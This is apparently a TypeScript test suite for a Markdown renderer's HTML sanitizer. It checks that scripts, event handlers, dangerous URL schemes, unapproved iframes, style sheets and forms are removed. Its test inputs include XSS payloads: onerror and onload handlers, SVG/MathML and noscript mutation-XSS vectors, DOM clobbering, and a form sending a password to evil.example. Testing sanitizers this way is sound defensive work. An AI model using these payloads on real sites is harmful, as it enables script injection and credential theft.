import { within } from '@testing-library/dom';
import { renderMarkdown } from './markdown';

const labels = { footnotes: 'Footnotes', backToText: 'Back to text' };
const YOUTUBE = 'https://www.youtube-nocookie.com';

/** The note's body as a visitor's browser builds it from the HTML the build wrote. */
function body(source: string, embedHosts: string[] = []) {
  const rendered = renderMarkdown(source, labels, embedHosts);
  document.body.innerHTML = `<main>${rendered.html}</main>`;
  return { ...rendered, main: within(document.querySelector('main')!) };
}

const handlers = () =>
  [...document.querySelectorAll('main *')].flatMap((element) =>
    element.getAttributeNames().filter((name) => name.startsWith('on')),
  );

describe('raw HTML in a note', () => {
  it('runs no script: script elements go with their text, the text around them stays', () => {
    const { html, main } = body(
      'Before.\n\n<script>alert(1)</script>\n\nAfter <script src="https://evil.example/x.js"></script>.\n',
    );
    expect(document.querySelectorAll('script')).toHaveLength(0);
    expect(html).not.toMatch(/alert|evil\.example/);
    expect(main.getByText('Before.')).toBeInTheDocument();
    expect(main.getByText('After .')).toBeInTheDocument();
  });

  it('keeps a picture and drops its event handlers', () => {
    const { html, main } = body(
      '<img src=x onerror=alert(1)>\n\n![A chart](/images/chart.svg "Results")\n\n<img src="/a.png" alt="Kept" ONLOAD="alert(2)" style="position:fixed;inset:0">\n',
    );
    expect(handlers()).toEqual([]);
    expect(html).not.toMatch(/alert|position:fixed/);
    expect(main.getByRole('img', { name: 'A chart' })).toHaveAttribute('src', '/images/chart.svg');
    const kept = main.getByRole('img', { name: 'Kept' });
    expect(kept).toHaveAttribute('src', '/a.png');
    expect(kept).toHaveAttribute('loading', 'lazy');
    expect(kept).not.toHaveAttribute('style');
    expect(document.querySelector('img[src="x"]')).toHaveAttribute('decoding', 'async');
  });

  it('keeps the text of a link to javascript:, data: or vbscript:, not its address', () => {
    const { main } = body(
      [
        '[Markdown](javascript:alert(1))',
        '<a href="javascript:alert(2)">Raw</a>',
        '<a href=" JaVaScRiPt&colon;alert(3)">Mixed case</a>',
        '<a href="java&#x09;script:alert(4)">Tab</a>',
        '<a href="data:text/html,<script>alert(5)</script>">Data</a>',
        '<a href="vbscript:msgbox(6)">VB</a>',
        '[Safe](https://example.com/a) <a href="mailto:jane@example.com">Mail</a> [Here](/notes#x)',
      ].join('\n\n'),
    );
    for (const name of ['Markdown', 'Raw', 'Mixed case', 'Tab', 'Data', 'VB']) {
      expect(main.getByText(name)).not.toHaveAttribute('href');
    }
    expect(main.getByRole('link', { name: 'Safe' })).toHaveAttribute(
      'href',
      'https://example.com/a',
    );
    expect(main.getByRole('link', { name: 'Mail' })).toHaveAttribute(
      'href',
      'mailto:jane@example.com',
    );
    expect(main.getByRole('link', { name: 'Here' })).toHaveAttribute('href', '/notes#x');
  });

  it('keeps a link or an embed whose scheme is written in capitals', () => {
    const { main } = body(
      '[Upper](HTTPS://example.com/b) <a href="Mailto:ann@example.com">Mail</a>\n\n' +
        `<iframe src="HTTPS://www.youtube-nocookie.com/embed/x" title="Film"></iframe>\n`,
      [YOUTUBE],
    );
    expect(main.getByRole('link', { name: 'Upper' })).toHaveAttribute(
      'href',
      'https://example.com/b',
    );
    expect(main.getByRole('link', { name: 'Mail' })).toHaveAttribute(
      'href',
      'mailto:ann@example.com',
    );
    expect(main.getByTitle('Film')).toHaveAttribute(
      'src',
      'https://www.youtube-nocookie.com/embed/x',
    );
  });

  it('leaves out an iframe from a host the owner did not allow, and says which', () => {
    const { html, removedEmbeds } = body(
      [
        '<iframe src="https://evil.example/x"></iframe>',
        '<iframe src="http://www.youtube-nocookie.com/embed/a"></iframe>',
        '<iframe src="//www.youtube-nocookie.com/embed/b"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe src="javascript:alert(2)"></iframe>',
      ].join('\n\n'),
      [YOUTUBE],
    );
    expect(document.querySelectorAll('iframe')).toHaveLength(0);
    expect(html).not.toMatch(/alert/);
    expect(removedEmbeds).toEqual([
      'https://evil.example/x',
      'http://www.youtube-nocookie.com/embed/a',
      '//www.youtube-nocookie.com/embed/b',
      '',
      '',
    ]);
  });

  it('leaves out every iframe when the owner allows no host', () => {
    const { removedEmbeds } = body(`<iframe src="${YOUTUBE}/embed/a" title="A film"></iframe>\n`);
    expect(document.querySelectorAll('iframe')).toHaveLength(0);
    expect(removedEmbeds).toEqual([`${YOUTUBE}/embed/a`]);
  });

  it("keeps an allowed host's iframe with its size, title and player permissions, sandboxed", () => {
    const { main, removedEmbeds } = body(
      `<iframe width="560" height="315" src="${YOUTUBE}/embed/a?si=b" title="A film" frameborder="0" ` +
        'allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share; camera *" ' +
        'referrerpolicy="no-referrer" allowfullscreen onload="alert(1)" name="opener" ' +
        'sandbox="allow-top-navigation" style="position:fixed"></iframe>\n',
      ['https://player.vimeo.com', YOUTUBE],
    );
    expect(removedEmbeds).toEqual([]);
    const frame = main.getByTitle('A film');
    expect(frame.tagName).toBe('IFRAME');
    expect(frame).toHaveAttribute('src', `${YOUTUBE}/embed/a?si=b`);
    expect(frame).toHaveAttribute('width', '560');
    expect(frame).toHaveAttribute('height', '315');
    expect(frame).toHaveAttribute(
      'allow',
      'autoplay; clipboard-write; encrypted-media; picture-in-picture; web-share',
    );
    expect(frame).toHaveAttribute('allowfullscreen');
    expect(frame).toHaveAttribute('loading', 'lazy');
    expect(frame).toHaveAttribute('referrerpolicy', 'strict-origin-when-cross-origin');
    expect(frame.getAttribute('sandbox')!.split(' ').sort()).toEqual([
      'allow-forms',
      'allow-popups',
      'allow-popups-to-escape-sandbox',
      'allow-presentation',
      'allow-same-origin',
      'allow-scripts',
    ]);
    expect(frame.getAttributeNames().sort()).toEqual(
      [
        'allow',
        'allowfullscreen',
        'height',
        'loading',
        'name',
        'referrerpolicy',
        'sandbox',
        'src',
        'title',
        'width',
      ].sort(),
    );
    expect(frame).toHaveAttribute('name', 'user-content-opener');
  });

  it('drops scripts hidden in SVG and MathML, and the markup that re-parses into one', () => {
    const { html, main } = body(
      [
        '<svg onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text>Drawn</text></a></svg>',
        '<math><mi xlink:href="javascript:alert(4)">x</mi></math>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(5)>',
        '<noscript><p title="</noscript><img src=y onerror=alert(6)>"></noscript>',
      ].join('\n\n'),
    );
    // What is left of them is text, shown as written.
    expect(html).not.toMatch(/<(script|svg|math|style|noscript)/);
    expect(document.querySelectorAll('script, svg, math, style, noscript')).toHaveLength(0);
    expect(handlers()).toEqual([]);
    expect(main.getByText('Drawn')).not.toHaveAttribute('href');
    expect(main.getByText('x')).toBeInTheDocument();
  });

  it('drops style sheets and what loads or sends something elsewhere', () => {
    const { html, main } = body(
      [
        '<style>body { display: none }</style>',
        '<link rel="stylesheet" href="https://evil.example/a.css">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b">',
        '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
        'Kept.',
      ].join('\n\n'),
    );
    expect(html).not.toMatch(/evil\.example|display: none|<form|<button|<base|<meta|<link/);
    expect(main.getByText('Kept.')).toBeInTheDocument();
  });
});

describe("what a note's Markdown makes survives the cleaning", () => {
  it('tables keep their alignment and take the focus to scroll; a handler in a cell goes', () => {
    const { main } = body(
      '| Task | Time |\n|:-----|-----:|\n| Unlock <b onmouseover="alert(1)">a bike</b> | 40 s |\n',
    );
    const table = main.getByRole('table');
    expect(table).toHaveAttribute('tabindex', '0');
    expect(within(table).getByRole('columnheader', { name: 'Time' })).toHaveAttribute(
      'align',
      'right',
    );
    expect(within(table).getByRole('cell', { name: 'Unlock a bike' })).toHaveAttribute(
      'align',
      'left',
    );
    expect(handlers()).toEqual([]);
  });

  it("a task list's boxes stay ticked and named; a raw field is no form control", () => {
    const { main } = body(
      '- [x] Done\n- [ ] To do <input type="text" autofocus onfocus="alert(1)">\n',
    );
    expect(main.getByRole('checkbox', { name: 'Done' })).toBeChecked();
    expect(main.getByRole('checkbox', { name: 'Done' })).toBeDisabled();
    expect(main.getByRole('checkbox', { name: 'To do' })).not.toBeChecked();
    expect(main.queryByRole('textbox')).toBeNull();
    expect(handlers()).toEqual([]);
    expect(document.querySelector('[autofocus]')).toBeNull();
  });

  it('footnotes link both ways, and an id or name written in HTML cannot take a name of the page', () => {
    const { main } = body(
      'Eight riders[^1], see <a href="#method">the method</a>.\n\n<p id="method">Method.</p>\n\n' +
        '<img name="currentScript" src="/a.png" alt="Clobber">\n\n[^1]: Recruited on the spot.\n',
    );
    const reference = main.getByRole('link', { name: '1' });
    const note = document.querySelector(reference.getAttribute('href')!)!;
    expect(note).toHaveTextContent('Recruited on the spot.');
    const back = within(note as HTMLElement).getByRole('link', { name: 'Back to text 1' });
    expect(document.querySelector(back.getAttribute('href')!)).toBe(reference);
    expect(main.getByRole('heading', { name: 'Footnotes' })).toHaveClass('sr-only');
    expect(reference).toHaveAccessibleDescription('Footnotes');

    const method = main.getByRole('link', { name: 'the method' });
    expect(document.querySelector(method.getAttribute('href')!)).toHaveTextContent('Method.');
    expect(document.getElementById('method')).toBeNull();
    expect(main.getByRole('img', { name: 'Clobber' })).toHaveAttribute(
      'name',
      'user-content-currentScript',
    );
  });

  it('details open and close, with kbd, sup and sub kept and no toggle handler', () => {
    const { main } = body(
      '<details open ontoggle="alert(1)"><summary>More</summary>\n\nPress <kbd>Ctrl</kbd>, H<sub>2</sub>O, 10<sup>3</sup>.\n\n</details>\n',
    );
    const details = main.getByRole('group');
    expect(details.tagName).toBe('DETAILS');
    expect(details).toHaveAttribute('open');
    expect(within(details).getByText('More').tagName).toBe('SUMMARY');
    expect(within(details).getByText('Ctrl').tagName).toBe('KBD');
    expect(within(details).getByText('2').tagName).toBe('SUB');
    expect(within(details).getByText('3').tagName).toBe('SUP');
    expect(handlers()).toEqual([]);
  });

  it('code keeps its colours for both themes, while a style written in HTML goes', () => {
    const { main, html } = body(
      '```ts\nconst a = 1;\n```\n\n<p style="position:fixed;inset:0;background:white">Cover</p>\n',
    );
    const code = document.querySelector('pre')!;
    expect(code).toHaveAttribute('data-language', 'ts');
    expect(code).toHaveClass('shiki');
    expect(code.querySelector('span[style*="--shiki-dark"]')).toHaveTextContent('const');
    expect(main.getByText('Cover')).not.toHaveAttribute('style');
    expect(html).not.toContain('position:fixed');
  });

  it('headings keep the ids they had, each with its "#" link, and lose their handlers', () => {
    const { main, headings } = body(
      '# Why a grid\n\n## Two themes\n\n<h3 onclick="alert(1)">Raw heading</h3>\n',
    );
    expect(headings).toEqual([
      { id: 'why-a-grid', text: 'Why a grid', depth: 2 },
      { id: 'two-themes', text: 'Two themes', depth: 2 },
      { id: 'raw-heading', text: 'Raw heading', depth: 3 },
    ]);
    const grid = main.getByRole('heading', { name: 'Why a grid', level: 2 });
    expect(grid).toHaveAttribute('id', 'why-a-grid');
    const link = grid.querySelector('a')!;
    expect(link).toHaveAttribute('href', '#why-a-grid');
    expect(link).toHaveClass('heading-link');
    expect(link).toHaveAttribute('aria-hidden', 'true');
    expect(link).toHaveAttribute('tabindex', '-1');
    expect(main.getByRole('heading', { name: 'Raw heading', level: 3 })).toHaveAttribute(
      'id',
      'raw-heading',
    );
    expect(handlers()).toEqual([]);
  });
});
